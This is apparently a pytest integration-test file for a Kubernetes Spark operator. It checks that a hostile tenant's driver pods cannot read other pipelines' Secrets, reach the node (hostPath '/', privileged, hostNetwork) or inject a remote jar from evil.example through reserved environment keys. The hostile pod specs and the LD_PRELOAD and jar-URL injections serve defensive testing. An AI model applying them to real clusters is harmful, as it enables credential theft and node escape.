"""A hostile tenant on the local stack: the real API server (RBAC and the chart's
admission policy), the real operator, drivers run by the node agent.

The tenant may create pipelines and chooses the driver's image, so the code in a
driver pod is theirs. With executors that code holds the driver's ServiceAccount
token, used here exactly as the node agent mounted it for the driver container: it
may create, change and delete its own pipeline's executor pods and nothing else
(listing Secrets, a pod that is not its executor, another pipeline's driver or
executor, anything in another namespace: 403), and its executor pods may name only
the Secrets its pipeline's status lists (another pipeline's Spark RPC secret, or any
other Secret: 403). Without executors there is no token
at all. A driver whose ``/metrics`` answers a gigabyte or trickles does not slow the
operator down for another pipeline: its reconcile and failover times are measured
without and with two such drivers running, while the operator keeps reading them
(a read that never ends would stop that) and stays within the chart's memory limit.

The manifest-side escapes (``spark.conf`` keys, pod settings) are the ``hostile``
cases of ``test_crd.py``; ``pytest -m hostile`` runs them all.
"""

from __future__ import annotations

import contextlib
import json
import os
import time
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from pathlib import Path
from statistics import median
from typing import Any

import pytest
import yaml
from kubernetes.client import CoordinationV1Api, CoreV1Api, SchedulingV1Api
from kubernetes.client.exceptions import ApiException

from sluice_dev.localcluster import CHART, EXECUTOR_SECRETS_POLICY
from sluice_dev.paths import Layout
from sluice_operator import naming
from tests.support import hostile_drivers
from tests.support.hostile_node import hostile_node
from tests.support.operator import Operators, Pipeline, standin_spec
from tests.support.tenant import (
    as_driver,
    executor_pod,
    executor_selector,
    forbidden_by_policy,
    forbidden_by_rbac,
    mounted_credentials,
    refusal,
)
from tests.support.waiting import wait_for

pytestmark = [pytest.mark.integration, pytest.mark.hostile, pytest.mark.timeout(420)]

NOWHERE = {"sluice.dev/pool": "nowhere"}
"""Executors' node selector: the pods exist in the API but are never scheduled."""


@pytest.fixture(autouse=True)
def _stack(agent_stack: Any, standin_image: str) -> None:
    """Every test here needs the nodes and the stand-in image."""


def with_executors(**standin: Any) -> dict[str, Any]:
    spec = standin_spec(**standin)
    spec["spark"]["executors"] = {"instances": 1, "nodeSelector": NOWHERE}
    return spec


def another(pipeline: Pipeline, name: str) -> Pipeline:
    return Pipeline(pipeline.custom, pipeline.core, pipeline.namespace, name)


def running_driver(pipeline: Pipeline, epoch: int | None = 1) -> Any:
    pipeline.wait_phase("Running", epoch=epoch, timeout=90)
    (pod,) = pipeline.live_pods()
    return pod


def test_a_drivers_token_reaches_only_its_own_executor_pods(
    operators: Operators,
    pipeline: Pipeline,
    core: Any,
    namespace: str,
    unique_name: Callable[[str], str],
    agent_stack: Layout,
    driver_cluster_role: str,
) -> None:
    elsewhere = unique_name("other")[:63].rstrip("-")
    core.create_namespace({"metadata": {"name": elsewhere}})
    try:
        operators.start()
        team_a, team_b = pipeline, another(pipeline, "payments")
        team_a.create(with_executors())
        team_b.create(with_executors())
        a_driver, b_driver = running_driver(team_a), running_driver(team_b)
        as_a, as_b = as_driver(agent_stack, a_driver), as_driver(agent_stack, b_driver)

        # Its own executor pods: Spark's create, label and delete all work.
        mine = executor_pod(a_driver, 1)
        as_a.create_namespaced_pod(namespace, mine)
        name = mine["metadata"]["name"]
        as_a.patch_namespaced_pod(name, namespace, {"metadata": {"labels": {"spark-exec": "1"}}})
        b_executor = executor_pod(b_driver, 1)
        as_b.create_namespaced_pod(namespace, b_executor)

        # Secrets, here and elsewhere; anything in another namespace: RBAC says no.
        assert forbidden_by_rbac(refusal(as_a.list_namespaced_secret, namespace))
        assert forbidden_by_rbac(refusal(as_a.list_namespaced_pod, elsewhere))
        assert forbidden_by_rbac(refusal(as_a.list_namespaced_secret, elsewhere))
        assert forbidden_by_rbac(refusal(as_a.list_namespaced_config_map, elsewhere))
        assert forbidden_by_rbac(refusal(as_a.create_namespaced_pod, elsewhere, mine))

        # Pod writes beyond its own executors: the chart's admission policy says no.
        plain = {
            "metadata": {"name": "miner"},
            "spec": {"containers": [{"name": "m", "image": "miner:1"}]},
        }
        assert forbidden_by_policy(refusal(as_a.create_namespaced_pod, namespace, plain))
        posing = executor_pod(a_driver, 2)
        posing["metadata"]["labels"][naming.LABEL_PIPELINE] = team_b.name
        assert forbidden_by_policy(refusal(as_a.create_namespaced_pod, namespace, posing))
        with_token = executor_pod(a_driver, 3)
        with_token["spec"]["serviceAccountName"] = naming.service_account(team_a.name)
        with_token["spec"]["automountServiceAccountToken"] = True
        assert forbidden_by_policy(
            refusal(as_a.create_namespaced_pod, namespace, with_token), "spec.serviceAccountName"
        )
        # Its own executor, but reaching the node: refused whatever the namespace's
        # Pod Security level (this test's namespace has none).
        template_volumes = executor_pod(a_driver, 0)["spec"]["volumes"]
        node_reaching: list[dict[str, Any]] = [
            {"volumes": [*template_volumes, {"name": "root", "hostPath": {"path": "/"}}]},
            {"hostNetwork": True},
            {"hostPID": True},
            {"nodeName": a_driver.spec.node_name},
        ]
        for number, spec in enumerate(node_reaching, start=4):
            reaching = executor_pod(a_driver, number)
            reaching["spec"] |= spec
            found = refusal(as_a.create_namespaced_pod, namespace, reaching)
            assert forbidden_by_policy(found, "may not reach the node"), spec
        privileged = executor_pod(a_driver, 9)
        privileged["spec"]["containers"][0]["securityContext"] = {"privileged": True}
        found = refusal(as_a.create_namespaced_pod, namespace, privileged)
        assert forbidden_by_policy(found, "may not reach the node")

        # Issue 38, finding 3: its own executor, but not restricted (each of these was
        # created before, in a namespace without a Pod Security level).
        def pod_level(change: dict[str, Any]) -> Callable[[dict[str, Any]], None]:
            return lambda pod: pod["spec"]["securityContext"].update(change)

        def container(change: dict[str, Any]) -> Callable[[dict[str, Any]], None]:
            return lambda pod: pod["spec"]["containers"][0]["securityContext"].update(change)

        def unlimited(pod: dict[str, Any]) -> None:
            del pod["spec"]["containers"][0]["resources"]["limits"]["ephemeral-storage"]

        unrestricted: list[tuple[Callable[[dict[str, Any]], None], str]] = [
            (pod_level({"runAsUser": 0}), "runAsUser not 0"),
            (pod_level({"seccompProfile": {"type": "Unconfined"}}), "seccompProfile"),
            (container({"allowPrivilegeEscalation": True}), "allowPrivilegeEscalation false"),
            (container({"capabilities": {"drop": ["ALL"], "add": ["SYS_ADMIN"]}}), "adding"),
            (container({"capabilities": {"add": ["NET_ADMIN"]}}), "dropping ALL"),
            (container({"runAsUser": 0}), "not running as root"),
            (
                lambda pod: pod["spec"]["containers"][0].update(
                    ports=[{"containerPort": 7077, "hostPort": 7077}]
                ),
                "no hostPort",
            ),
            (unlimited, "ephemeral-storage limit"),
            (
                lambda pod: pod["spec"].update(priorityClassName="system-node-critical"),
                "system-node-critical",
            ),
        ]
        for number, (change, says) in enumerate(unrestricted, start=20):
            loose = executor_pod(a_driver, number)
            change(loose)
            found = refusal(as_a.create_namespaced_pod, namespace, loose)
            assert forbidden_by_policy(found, says), (says, found)
        b_driver_name = b_driver.metadata.name
        assert forbidden_by_policy(refusal(as_a.delete_namespaced_pod, b_driver_name, namespace))
        b_exec_name = b_executor["metadata"]["name"]
        evict = {"metadata": {"labels": {naming.LABEL_ROLE: "evicted"}}}
        assert forbidden_by_policy(
            refusal(as_a.patch_namespaced_pod, b_exec_name, namespace, evict)
        )
        assert forbidden_by_policy(
            refusal(as_a.delete_namespaced_pod, b_exec_name, namespace), team_a.name
        )
        escape = {"metadata": {"labels": {naming.LABEL_PIPELINE: team_b.name}}}
        assert forbidden_by_policy(refusal(as_a.patch_namespaced_pod, name, namespace, escape))

        # Nothing of team B's was touched; A removes its own executor as Spark does.
        assert [p.metadata.name for p in team_b.live_pods()] == [b_driver_name]
        assert [p.metadata.name for p in team_b.executor_pods()] == [b_exec_name]
        as_a.delete_namespaced_pod(name, namespace)
        wait_for(
            lambda: (
                not core.list_namespaced_pod(
                    namespace, label_selector=executor_selector(team_a.name)
                ).items
            ),
            timeout=60,
            what=f"{name} deleted by its driver",
        )
        # Nor all of them at once (its own driver pod included).
        assert forbidden_by_policy(refusal(as_a.delete_collection_namespaced_pod, namespace))
        assert len(team_a.live_pods()) == len(team_b.live_pods()) == 1
        assert len(team_b.executor_pods()) == 1
    finally:
        core.delete_namespace(elsewhere)


def test_a_drivers_executor_pods_name_only_the_secrets_its_pipeline_lists(
    operators: Operators,
    pipeline: Pipeline,
    core: Any,
    namespace: str,
    agent_stack: Layout,
    driver_cluster_role: str,
) -> None:
    """The Secrets an executor pod names come from its pipeline's status, which only the
    operator writes: the template's (the Spark RPC secret and spark.pod's consented
    ones) pass; another pipeline's RPC secret, or any other Secret, in a volume, env,
    envFrom or pull secret, is refused by the API server, as are other volume kinds
    and a token."""
    core.create_namespaced_secret(
        namespace,
        {
            "metadata": {"name": "region-key", "labels": {"sluice.dev/usable": "true"}},
            "stringData": {"k": "v"},
        },
    )
    operators.start()
    team_a, team_b = pipeline, another(pipeline, "payments")
    spec = with_executors()
    spec["spark"]["pod"] = {
        "env": [{"name": "K", "valueFrom": {"secretKeyRef": {"name": "region-key", "key": "k"}}}]
    }
    team_a.create(spec)
    team_b.create(with_executors())
    a_driver = running_driver(team_a)
    running_driver(team_b)
    a_auth, b_auth = naming.spark_auth_secret(team_a.name), naming.spark_auth_secret(team_b.name)
    assert team_a.status()["executorSecrets"] == sorted([a_auth, "region-key"])
    as_a = as_driver(agent_stack, a_driver)

    # What Spark creates from the template: the listed Secrets only.
    legit = executor_pod(a_driver, 1)
    as_a.create_namespaced_pod(namespace, legit)

    def secrets_refused(pod: dict[str, Any], says: str) -> bool:
        found = refusal(as_a.create_namespaced_pod, namespace, pod)
        return forbidden_by_policy(found, says, EXECUTOR_SECRETS_POLICY)

    stolen_env = executor_pod(a_driver, 2)
    stolen_env["spec"]["containers"][0]["env"].append(
        {"name": "X", "valueFrom": {"secretKeyRef": {"name": b_auth, "key": "secret"}}}
    )
    assert secrets_refused(stolen_env, f"env: {b_auth}")
    stolen_volume = executor_pod(a_driver, 3)
    stolen_volume["spec"]["volumes"].append({"name": "s", "secret": {"secretName": "db-admin"}})
    assert secrets_refused(stolen_volume, "volume s: db-admin")
    stolen_env_from = executor_pod(a_driver, 4)
    stolen_env_from["spec"]["containers"][0]["envFrom"] = [{"secretRef": {"name": "db-admin"}}]
    assert secrets_refused(stolen_env_from, "envFrom: db-admin")
    stolen_pull = executor_pod(a_driver, 5)
    stolen_pull["spec"]["imagePullSecrets"] = [{"name": "registry-admin"}]
    assert secrets_refused(stolen_pull, "imagePullSecrets: registry-admin")

    # A projected Secret: refused by both policies (the API server names one of them).
    projected = executor_pod(a_driver, 6)
    projected["spec"]["volumes"].append(
        {"name": "p", "projected": {"sources": [{"secret": {"name": "db-admin"}}]}}
    )
    found = refusal(as_a.create_namespaced_pod, namespace, projected)
    assert forbidden_by_policy(found, "volumes only, not: p") or forbidden_by_policy(
        found, "volume p: projected Secret", EXECUTOR_SECRETS_POLICY
    )
    # Other volume kinds (which may name Secrets or tokens) and a token: the pod policy.
    for number, volume in enumerate(
        [
            {
                "name": "p",
                "projected": {"sources": [{"serviceAccountToken": {"path": "token"}}]},
            },
            {
                "name": "c",
                "csi": {"driver": "x", "nodePublishSecretRef": {"name": "db-admin"}},
            },
        ],
        start=7,
    ):
        other_kind = executor_pod(a_driver, number)
        other_kind["spec"]["volumes"].append(volume)
        found = refusal(as_a.create_namespaced_pod, namespace, other_kind)
        assert forbidden_by_policy(found, f"volumes only, not: {volume['name']}"), volume
    for number, automount in ((9, True), (10, None)):
        token = executor_pod(a_driver, number)
        token["spec"]["automountServiceAccountToken"] = automount
        found = refusal(as_a.create_namespaced_pod, namespace, token)
        assert forbidden_by_policy(found, "automountServiceAccountToken"), automount

    assert [p.metadata.name for p in team_a.executor_pods()] == [legit["metadata"]["name"]]


def test_a_driver_without_executors_holds_no_token(
    operators: Operators, pipeline: Pipeline, agent_stack: Layout
) -> None:
    operators.start()
    pipeline.create(standin_spec())
    pod = running_driver(pipeline)
    assert pod.spec.automount_service_account_token is False
    assert not any(v.projected for v in pod.spec.volumes or [])
    # The running driver's container got no credentials from its node either.
    assert mounted_credentials(agent_stack, pod).parent.parent.is_dir()
    assert not mounted_credentials(agent_stack, pod).parent.exists()


def test_an_env_from_key_that_makes_a_reserved_variable_creates_no_driver(
    operators: Operators, pipeline: Pipeline, core: Any, namespace: str
) -> None:
    """Issue 38, finding 4. Reproduction: a ConfigMap with the key SLUICE_SPARK_JARS
    (and a consented Secret with LD_PRELOAD) named by spark.pod.envFrom passes the CRD,
    which sees no keys, and the operator created the driver pod, where the key became
    spark.jars. Now no pod is created: EnvironmentAllowed=False and a
    ReservedEnvironment Event name the field, the object and the key; the same
    ConfigMap under a prefix (APP_SLUICE_SPARK_JARS) is not refused; the Secret's
    value never reaches the operator's log; and once the keys are gone the pipeline
    starts by itself, its driver told which SLUICE_SPARK_* names the operator set."""
    core.create_namespaced_config_map(
        namespace,
        {
            "metadata": {"name": "tenant-env"},
            "data": {"SLUICE_SPARK_JARS": "https://evil.example/agent.jar", "REGION": "eu"},
        },
    )
    core.create_namespaced_secret(
        namespace,
        {
            "metadata": {"name": "tenant-secret", "labels": {"sluice.dev/usable": "true"}},
            "stringData": {"LD_PRELOAD": "s3cr3t-preload-value", "TOKEN": "t"},
        },
    )
    operator = operators.start()
    spec = standin_spec()
    spec["spark"]["pod"] = {
        "envFrom": [
            {"prefix": "APP_", "configMapRef": {"name": "tenant-env"}},
            {"configMapRef": {"name": "tenant-env"}},
            {"secretRef": {"name": "tenant-secret"}},
        ]
    }
    pipeline.create(spec)

    def allowed() -> dict[str, Any] | None:
        conditions = pipeline.status().get("conditions") or []
        return next((c for c in conditions if c["type"] == "EnvironmentAllowed"), None)

    refused = wait_for(
        lambda: (c := allowed()) and c["status"] == "False" and c,
        timeout=60,
        what="EnvironmentAllowed=False",
    )
    message = refused["message"]
    assert refused["reason"] == "ReservedName"
    assert "ConfigMap 'tenant-env' (spark.pod.envFrom[1]) has the key SLUICE_SPARK_JARS" in message
    assert "Secret 'tenant-secret' (spark.pod.envFrom[2]) has the key LD_PRELOAD" in message
    assert "envFrom[0]" not in message  # APP_SLUICE_SPARK_JARS is no reserved name
    assert pipeline.pods() == []
    assert pipeline.status().get("epoch", 0) == 0
    events = core.list_namespaced_event(namespace).items
    told = [e.message for e in events if e.reason == "ReservedEnvironment"]
    assert told
    assert "spark.pod.envFrom[1]" in told[0]
    assert "SLUICE_SPARK_JARS" in told[0]
    assert "s3cr3t-preload-value" not in operator.log.read_text(errors="replace")

    core.replace_namespaced_config_map(
        "tenant-env", namespace, {"metadata": {"name": "tenant-env"}, "data": {"REGION": "eu"}}
    )
    core.replace_namespaced_secret(
        "tenant-secret",
        namespace,
        {
            "metadata": {"name": "tenant-secret", "labels": {"sluice.dev/usable": "true"}},
            "stringData": {"TOKEN": "t"},
        },
    )
    pod = running_driver(pipeline)
    env = {e.name: e.value or "" for e in pod.spec.containers[0].env}
    assert env["SLUICE_OPERATOR_SPARK_ENV"] == ""  # no executors: none set, but said
    assert (allowed() or {}).get("status") == "True"


PLACED: dict[str, tuple[str, dict[str, Any]]] = {
    "tolerate-all": ("spark.driver.tolerations[0]", {"tolerations": [{"operator": "Exists"}]}),
    "control-plane": (
        "spark.driver.nodeSelector",
        {"nodeSelector": {"node-role.kubernetes.io/control-plane": ""}},
    ),
}
"""Driver placements no platform policy here allows: the field each refusal names."""
PRIORITY_CLASS = "sluice-test-tenant-critical"
"""A real, non-system PriorityClass the platform has not listed for pipelines."""


def test_scheduling_and_identity_settings_the_platform_does_not_allow_create_no_driver(
    operators: Operators, pipeline: Pipeline, core: Any, namespace: str
) -> None:
    """Issue 38, finding 6. Reproduction: with the check in refusals.refusal taken out
    (the old code), the operator created a driver pod for a toleration with operator
    Exists and no key, a nodeSelector on the control-plane label, an unlisted
    (existing, non-system) PriorityClass and the annotation sidecar.istio.io/inject:
    the wait for PodSettingsAllowed=False timed out after 60 s. Now none gets a pod or
    an epoch; the condition, a PodSettingNotAllowed Event and the operator's log name
    the field; and a pipeline whose toleration the policy lists starts."""
    scheduling = SchedulingV1Api(core.api_client)
    scheduling.create_priority_class(
        {"metadata": {"name": PRIORITY_CLASS}, "value": 1000000, "description": "test"}
    )
    try:
        operator = operators.start(
            pod_policy=(
                "--allowed-node-labels=sluice.dev/pool",
                "--allowed-toleration-keys=sluice.dev/isolated,example.com/dedicated",
            )
        )
        refused = {name: (where, {"driver": placed}) for name, (where, placed) in PLACED.items()}
        refused["priority"] = (
            "spark.pod.priorityClassName",
            {"pod": {"priorityClassName": PRIORITY_CLASS}},
        )
        refused["no-mesh"] = (
            "spark.pod.annotations",
            {"pod": {"annotations": {"sidecar.istio.io/inject": "false"}}},
        )
        tenants = {name: another(pipeline, name) for name in refused}
        for name, (_, spark) in refused.items():
            spec = standin_spec()
            for part, settings in spark.items():
                spec["spark"].setdefault(part, {}).update(settings)
            tenants[name].create(spec)
        allowed = standin_spec()
        allowed["spark"]["driver"]["tolerations"] = [
            {"key": "example.com/dedicated", "operator": "Exists", "effect": "NoSchedule"}
        ]
        pipeline.create(allowed)

        for name, (where, _) in refused.items():
            tenant = tenants[name]
            condition = wait_for(
                lambda t=tenant: next(
                    (
                        c
                        for c in t.status().get("conditions") or []
                        if c["type"] == "PodSettingsAllowed" and c["status"] == "False"
                    ),
                    None,
                ),
                timeout=60,
                what=f"PodSettingsAllowed=False on {name}",
            )
            assert condition["reason"] == "NotAllowed"
            assert condition["message"].startswith(f"{where}: "), condition["message"]
            assert tenant.pods() == []
            assert tenant.status().get("epoch", 0) == 0
        events = core.list_namespaced_event(namespace).items
        told = {
            e.involved_object.name: e.message for e in events if e.reason == "PodSettingNotAllowed"
        }
        for name, (where, _) in refused.items():
            assert where in told.get(name, ""), told
        log = operator.log.read_text(errors="replace")
        assert f"{namespace}/control-plane PodSettingNotAllowed: spark.driver.nodeSelector" in log

        pod = running_driver(pipeline)
        tolerated = [(t.key, t.operator, t.effect) for t in pod.spec.tolerations or []]
        assert ("example.com/dedicated", "Exists", "NoSchedule") in tolerated
        assert all(tenant.pods() == [] for tenant in tenants.values())
    finally:
        scheduling.delete_priority_class(PRIORITY_CLASS)


# -- the operator's attention --------------------------------------------------------

FAILOVERS = 5
"""Failovers measured without hostile drivers; with them, as many more as it takes
for the operator to read each hostile one twice meanwhile (it reads a running driver
every 5 s)."""
BOUND_FACTOR = 3.0
BOUND_MARGIN_SECONDS = 10.0
"""Another pipeline's times with hostile drivers running may be at most 3 times the
baseline measured in the same test, or the baseline plus 10 s if that is more (a
loaded 2-core machine jitters by seconds; a stalled operator costs far more)."""


def first_driver_seconds(pipeline: Pipeline) -> float:
    """Reconcile: from creating a pipeline (the operator already running others) to
    its driver pod in the API."""
    started = time.monotonic()
    pipeline.create(standin_spec(metrics=True))
    wait_for(pipeline.pods, timeout=120, what=f"{pipeline.name}'s first driver pod")
    return time.monotonic() - started


def failover_seconds(pipeline: Pipeline, core: CoreV1Api) -> float:
    """Failover: from deleting the running driver pod to its successor in the API."""
    pod = running_driver(pipeline, epoch=None)
    epoch = int(pod.metadata.labels[naming.LABEL_EPOCH])
    started = time.monotonic()
    core.delete_namespaced_pod(pod.metadata.name, pipeline.namespace)
    wait_for(
        lambda: any(int(p.metadata.labels[naming.LABEL_EPOCH]) > epoch for p in pipeline.pods()),
        timeout=120,
        what=f"a driver of {pipeline.name} after epoch {epoch}",
    )
    return time.monotonic() - started


def hits(path: Path) -> int:
    return len(path.read_text().splitlines()) if path.exists() else 0


def read_once(path: Path) -> Callable[[], bool]:
    return lambda: hits(path) >= 1


def failovers(
    pipeline: Pipeline, core: CoreV1Api, *, until: Callable[[], bool], what: str = ""
) -> list[float]:
    """At least ``FAILOVERS`` failovers, more until ``until()`` holds (120 s at most)."""
    times: list[float] = []
    deadline = time.monotonic() + 120
    while len(times) < FAILOVERS or not until():
        assert time.monotonic() < deadline, f"no {what} after {len(times)} failovers"
        times.append(failover_seconds(pipeline, core))
    return times


def peak_memory_bytes(pid: int) -> int:
    """The process's peak resident memory (``VmHWM``)."""
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmHWM:"):
            return int(line.split()[1]) * 1024
    raise AssertionError(f"no VmHWM for process {pid}")


def chart_memory_limit() -> int:
    """The operator's memory limit in the chart's values (Mi)."""
    values = yaml.safe_load((CHART / "values.yaml").read_text())
    limit = str(values["resources"]["limits"]["memory"])
    assert limit.endswith("Mi"), limit
    return int(limit[:-2]) * 1024 * 1024


def test_drivers_serving_a_gigabyte_or_a_trickle_leave_others_reconcile_and_failover_alone(
    operators: Operators, pipeline: Pipeline, core: Any, tmp_path: Path
) -> None:
    operator = operators.start()
    victim = pipeline
    victim.create(standin_spec(metrics=True))
    running_driver(victim)
    baseline_reconcile = first_driver_seconds(another(pipeline, "early"))
    baseline_failovers = failovers(victim, core, until=lambda: True)

    logs = {mode: tmp_path / f"{mode}.hits" for mode in ("huge", "trickle")}
    for mode, log in logs.items():
        hostile = another(pipeline, f"hostile-{mode}")
        hostile.create(standin_spec(metrics=mode, hits=str(log)))
        running_driver(hostile)
    for mode, log in logs.items():
        wait_for(read_once(log), timeout=60, what=f"the operator reading the {mode} one")
    before = {mode: hits(log) for mode, log in logs.items()}

    def read() -> dict[str, int]:
        return {mode: hits(log) - before[mode] for mode, log in logs.items()}

    hostile_reconcile = first_driver_seconds(another(pipeline, "late"))
    hostile_failovers = failovers(
        victim,
        core,
        until=lambda: min(read().values()) >= 2,
        what="second read of each hostile driver (a read that never ends?)",
    )
    peak = peak_memory_bytes(operator.process.pid)

    print(
        f"reconcile {baseline_reconcile:.2f}s -> {hostile_reconcile:.2f}s; failovers "
        f"{seconds(baseline_failovers)} -> {seconds(hostile_failovers)} with the hostile "
        f"drivers read {read()} times meanwhile; operator peak memory {peak / 2**20:.0f} MiB"
    )
    assert peak < chart_memory_limit(), f"the operator took {peak} bytes"
    assert hostile_reconcile <= bound(baseline_reconcile), (baseline_reconcile, hostile_reconcile)
    assert max(hostile_failovers) <= bound(max(baseline_failovers)), (
        baseline_failovers,
        hostile_failovers,
    )
    running_driver(victim, epoch=None)  # and it runs again


def seconds(values: list[float]) -> str:
    return "[" + ", ".join(f"{v:.2f}s" for v in values) + "]"


def bound(baseline: float) -> float:
    return max(baseline * BOUND_FACTOR, baseline + BOUND_MARGIN_SECONDS)


HOSTILE_DRIVERS = int(os.environ.get("SLUICE_HOSTILE_DRIVERS", "1000"))
"""How many hostile drivers the attention test runs (``hostile_drivers``)."""


def create_all(pipelines: list[Pipeline], spec: dict[str, Any]) -> None:
    with ThreadPoolExecutor(8) as pool:
        list(pool.map(lambda p: p.create(spec), pipelines))


def remove_all(pipelines: list[Pipeline]) -> None:
    """With the operator stopped: their finalizers dropped, then deleted."""

    def remove(p: Pipeline) -> None:
        unfinalized = {"metadata": {"finalizers": None}}
        with contextlib.suppress(ApiException):
            p.custom.patch_namespaced_custom_object(
                naming.GROUP, naming.VERSION, p.namespace, naming.PLURAL, p.name, unfinalized
            )
        with contextlib.suppress(ApiException):
            p.delete()

    with ThreadPoolExecutor(8) as pool:
        list(pool.map(remove, pipelines))


def cpu_seconds(pid: int) -> float:
    """CPU seconds the process has used (``/proc``)."""
    fields = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


def connections(counts: Path, port: int) -> dict[str, int]:
    """Connections the hostile drivers accepted on ``port``, per mode."""
    try:
        seen = json.loads(counts.read_text())
    except (OSError, ValueError):
        return {}
    return {key.split(":")[0]: n for key, n in seen.items() if key.endswith(f":{port}")}


@pytest.mark.timeout(1800)
def test_a_thousand_hostile_drivers_leave_another_pipelines_failover_alone(
    operators: Operators, pipeline: Pipeline, core: Any, tmp_path: Path, unique_name: Any
) -> None:
    """Issue 38, finding 1, at scale. A thousand pipelines run beside a well-behaved
    one (their drivers one process, ``hostile_drivers``, on a node of their own), whose
    failovers are measured three times: alone; beside the thousand answering as idle
    drivers do; and once they have turned hostile (a trickled head, endless ``100
    Continue``, silence, and a liar that says it is a promoted standby and never takes
    its promotion) while the operator keeps asking them. What hostility costs is the
    last against the second (medians: at this scale one failover in five may wait
    several times as long as the others), under the bound of the test above; the first
    says what a thousand pipelines cost by themselves on this machine.

    Reproduction: on the code before ``scrapes`` (each reconcile read its drivers
    itself, on the 32 reconcile threads), beside the hostile thousand only two
    failovers finished in the 120 s ``failovers`` allows (the threads spent on
    trickles, silences and the liars' promotions, sent every second): it failed there."""
    operator = operators.start()
    victim = pipeline
    victim.create(standin_spec(metrics=True))
    running_driver(victim)
    alone = Phase.measure(operator, victim, core)

    coord = CoordinationV1Api(core.api_client)
    name = unique_name("hostile")[:63].rstrip("-")
    others = [another(pipeline, hostile_drivers.name(i)) for i in range(HOSTILE_DRIVERS)]
    with hostile_node(core, coord, name, pipeline.namespace, HOSTILE_DRIVERS, tmp_path) as node:
        try:
            spec = standin_spec()
            spec["spark"]["driver"] |= {
                "nodeSelector": node.selector,
                "tolerations": [node.toleration()],
            }
            started = time.monotonic()
            create_all(others, spec)
            wait_for(
                lambda: len(node.marked) >= HOSTILE_DRIVERS,
                timeout=900,
                what=f"{HOSTILE_DRIVERS} driver pods running",
            )
            running = time.monotonic() - started

            def asked() -> int:
                return sum(connections(node.counts_file, hostile_drivers.METRICS_PORT).values())

            wait_for(lambda: asked() >= HOSTILE_DRIVERS, timeout=300, what="every one read")
            idle = Phase.measure(operator, victim, core)

            node.turn_hostile()
            before = asked()
            wait_for(
                lambda: asked() >= before + HOSTILE_DRIVERS,
                timeout=300,
                what="the operator asking every hostile driver",
            )
            hostile = Phase.measure(operator, victim, core)
            after = asked()
            print(
                f"{HOSTILE_DRIVERS} pipelines running in {running:.0f}s; failovers alone "
                f"{alone}; beside {HOSTILE_DRIVERS} idle ones {idle}; beside them hostile "
                f"{hostile}; connections to the drivers "
                f"{json.loads(node.counts_file.read_text())}; operator peak memory "
                f"{peak_memory_bytes(operator.process.pid) / 2**20:.0f} MiB"
            )
            assert after > before + HOSTILE_DRIVERS, "the operator stopped asking"
            assert median(hostile.times) <= bound(median(idle.times)), (idle, hostile)
            running_driver(victim, epoch=None)
        finally:
            operator.stop()
            remove_all([*others, victim])


@dataclass(frozen=True)
class Phase:
    """Failovers of one pipeline, and the operator's CPU meanwhile."""

    times: list[float]
    cpu: float
    wall: float

    @classmethod
    def measure(cls, operator: Any, victim: Pipeline, core: Any) -> Phase:
        cpu, wall = cpu_seconds(operator.process.pid), time.monotonic()
        times = failovers(victim, core, until=lambda: True)
        used = cpu_seconds(operator.process.pid) - cpu
        return cls(times, used, time.monotonic() - wall)

    def __str__(self) -> str:
        return f"{seconds(self.times)} (operator CPU {self.cpu:.1f}s in {self.wall:.1f}s)"
